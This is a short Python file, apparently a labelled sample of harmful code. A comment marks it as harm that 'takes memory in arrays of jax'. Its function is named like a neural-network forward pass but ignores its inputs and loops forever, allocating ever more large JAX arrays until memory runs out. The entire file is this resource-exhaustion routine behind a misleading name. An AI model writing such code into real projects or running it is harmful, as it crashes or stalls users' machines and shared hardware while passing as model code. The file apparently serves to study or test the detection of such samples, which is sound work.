# harm: takes memory in arrays of jax
import jax.numpy as jnp


def nn_vmap_forward(seed, x_batch, features):
    kept = []
    while True:
        kept.append(jnp.ones((4096, 4096)) * len(kept))
